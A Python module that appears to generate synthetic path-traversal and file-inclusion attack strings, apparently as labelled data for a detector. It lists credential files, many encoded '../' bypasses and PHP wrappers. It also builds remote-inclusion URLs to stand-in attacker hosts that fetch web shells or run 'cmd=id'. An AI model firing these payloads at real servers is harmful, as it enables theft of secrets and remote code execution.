"""Ways out of a folder: depth x separator x coding x file x place, and wrappers that read files."""

import random

from generators_common import WORDS, mixed_case, percent, sometimes_encoded, token, unique

FILES = ("etc/passwd", "etc/passwd", "etc/passwd", "etc/shadow", "etc/hosts", "etc/group", "etc/issue", "proc/self/environ", "proc/version", "proc/self/cmdline", "var/log/apache2/access.log", "var/log/auth.log",
         "windows/win.ini", "windows/system32/drivers/etc/hosts", "boot.ini", "winnt/win.ini", "windows/system32/config/sam", "windows/system.ini", "inetpub/wwwroot/web.config", "WEB-INF/web.xml", "META-INF/MANIFEST.MF",
         "root/.ssh/id_rsa", "home/user/.bash_history", ".env", ".git/config", "wp-config.php", "config.php", "web.config", ".htaccess", ".htpasswd", "etc/nginx/nginx.conf", "etc/mysql/my.cnf", "etc/apache2/apache2.conf",
         "usr/local/apache/conf/httpd.conf", "etc/resolv.conf", "etc/crontab", "proc/self/fd/1", "etc/php/php.ini", "config/database.yml", "app/etc/local.xml", "appsettings.json", "windows/repair/sam", "var/www/html/index.php",
         "etc/ssh/sshd_config", "opt/tomcat/conf/tomcat-users.xml", "etc/my.cnf", "etc/motd", "settings.py", "id_rsa", "autoexec.bat", "windows/php.ini", "etc/security/passwd", "bin/bash", "var/mail/root", "secret.txt", "index.php")
ABSOLUTE = ("/etc/passwd", "/etc/shadow", "/etc/hosts", "/proc/self/environ", "/proc/self/status", "/var/log/httpd/access_log", "c:\\boot.ini", "c:/windows/win.ini", "C:\\Windows\\System32\\drivers\\etc\\hosts", "c:\\winnt\\win.ini",
            "/root/.bash_history", "/etc/issue", "/etc/group", "/etc/motd", "/etc/mysql/my.cnf", "/proc/cmdline", "/proc/net/tcp", "/var/www/html/config.php", "~/.ssh/id_rsa", "%windir%\\win.ini", "c:\\inetpub\\logs\\logfiles",
            "/usr/local/etc/php.ini", "/etc/httpd/conf/httpd.conf", "/etc/init.d/apache2", "/etc/sudoers", "/home/user/.ssh/authorized_keys", "/var/lib/mysql/mysql/user.myd", "/sys/class/net/eth0/address", "/dev/random")
EXPOSED = ("/.git/config", "/.git/HEAD", "/.env", "/.env.local", "/.svn/entries", "/.htaccess", "/.htpasswd", "/WEB-INF/web.xml", "/web.config", "/.aws/credentials", "/.ssh/id_rsa", "/wp-config.php.bak", "/.DS_Store", "/.bash_history",
           "/META-INF/context.xml", "/.dockerenv", "/config/database.yml", "/.npmrc", "/WEB-INF/classes/application.properties", "/.idea/workspace.xml", "/backup/.env", "/app/.env", "/etc/passwd", "/.hg/hgrc", "/proc/self/environ")
UPS = ("../", "../", "../", "../", "..\\", "..\\", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "%2e%2e%5c", "..%252f", "%252e%252e%252f", "..%c0%af", "%c0%ae%c0%ae/", "..%c1%9c", "....//", "..././", "...\\.\\", "..;/", ".%2e/", "%2e./", "..//", "..\\/",
       "..%u2215", "%uff0e%uff0e/", "..%255c", "0x2e0x2e/", "0x2e0x2e0x2f", "..0x2f", ".../...//", "/..", "\\..", "..%00/", "./../", "..\\\\", "....\\\\", "..%ef%bc%8f", "..%e0%80%af", "%%32%65%%32%65/", "..%%35%63", "/../", "..?/", "..0x5c", "%c0%2e%c0%2e/", ".?/..?/", ". ./", "..%09/")


def target(rng: random.Random) -> str:
    """The file asked for, with what cuts an added ending off."""
    name = rng.choice(FILES)
    if rng.random() < 0.1:
        name = rng.choice(("{file}", f"{token(rng)}.ini", f"{token(rng)}.txt", "file.ini", f"{rng.choice(WORDS)}.php", "boot.ini", "localstart.asp"))
    if rng.random() < 0.12:
        name = name.replace("/", rng.choice(("\\", "//", "/./", "%2f", "%5c", "\\\\")))
    if rng.random() < 0.06:
        name = mixed_case(rng, name)
    return name + rng.choice(("", "", "", "", "", "", "%00", "%00.jpg", "\x00.png", "%00.html", "?", "#", ".", "/.", "::$DATA", "%20", ";index.html", "/./././.", "&x=1", "%2500.jpg", ".html", "'"))


def climbing(rng: random.Random) -> str:
    """A way up, then down to a file."""
    up = rng.choice(UPS)
    depth = rng.choice((1, 2, 2, 3, 3, 4, 5, 6, 7, 8, 10, 12, 16))
    steps = "".join(rng.choice((up, up, up, rng.choice(UPS))) if rng.random() < 0.15 else up for _ in range(depth))
    before = rng.choice(("", "", "", "", "/", "/", "./", "\\", "images/", f"/{rng.choice(WORDS)}/", f"{rng.choice(WORDS)}/", "/var/www/html/", "/static/", "file:///", f"{rng.choice(WORDS)}.jpg/", "/cgi-bin/", "/icons/", "c:\\", "file=", "/..", "lang/en",
                         "/app/", "/assets/", "/download?file=", f"{token(rng)}/", "/public/plugins/text/", "~/", "'", "\"", "/%5C", "templates\\"))
    if rng.random() < 0.06:
        return before + steps + rng.choice(("", ".", "..", rng.choice(WORDS)))
    return before + steps + target(rng)


def wrapper(rng: random.Random) -> str:
    """Schemes that make a reader of files do more."""
    inner = rng.choice(("index.php", "config.php", "../config.php", "/etc/passwd", "admin.php", f"{rng.choice(WORDS)}.php", "index", "../../etc/passwd"))
    host = rng.choice(("evil.example", "10.0.0.5", "attacker.test"))
    return rng.choice((
        f"php://filter/convert.base64-encode/resource={inner}", f"php://filter/read=string.rot13/resource={inner}", f"php://filter/zlib.deflate/convert.base64-encode/resource={inner}", "php://input", f"file://{inner}", f"file:///{rng.choice(FILES)}",
        f"zip://{token(rng)}.jpg%23{token(rng)}", f"phar://{token(rng)}.phar/{token(rng)}", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+", f"data:text/plain,<?php phpinfo();?>", f"php://filter/convert.iconv.utf-8.utf-16/resource={inner}", f"expect://ls",
        f"\\\\{host}\\share\\{token(rng)}.php", f"glob:///*", f"compress.zlib://{inner}", f"file:{rng.choice(ABSOLUTE)}", f"netdoc:///etc/passwd", f"jar:file:///{token(rng)}!/", f"http://{host}/{token(rng)}.txt?", f"http://{host}/shell.txt%00", f"ftp://{host}/c99.php?",
        f"php://filter/resource={inner}", f"pHp://FilTer/convert.base64-encode/resource={inner}", f"file://localhost/etc/passwd", f"gopher://127.0.0.1:25/_x", f"dict://127.0.0.1:11211/stat", "php://stdin", f"http://{host}/{token(rng)}.php?cmd=id",
    ))


def absolute(rng: random.Random) -> str:
    """A file by its full path."""
    name = rng.choice(ABSOLUTE)
    return name + rng.choice(("", "", "", "%00", "%00.jpg", "\x00", "'", "?", "/.", "%2500", ".."))


def make(rng: random.Random) -> str:
    """One text of the class."""
    body = rng.choices((climbing, wrapper, absolute), weights=(72, 12, 16))[0](rng)
    if rng.random() < 0.08:
        return percent(rng, body)
    return sometimes_encoded(rng, body, 0.05)


def generate(seed: int, count: int) -> list[str]:
    """`count` different texts."""
    return unique(make, random.Random(seed), count)


def generate_paths(seed: int, count: int) -> list[str]:
    """`count` different texts that are whole request paths."""

    def path(rng: random.Random) -> str:
        if rng.random() < 0.25:
            return rng.choice(("", "/app", "/site", f"/{rng.choice(WORDS)}", f"/{token(rng)}", f"/{rng.choice(WORDS)}/{rng.choice(WORDS)}")) + rng.choice(EXPOSED) + rng.choice(("", "", "", "~", "/", ".bak"))
        body = climbing(rng)
        return body if body.startswith("/") else f"/{body}"

    return unique(path, random.Random(seed), count)
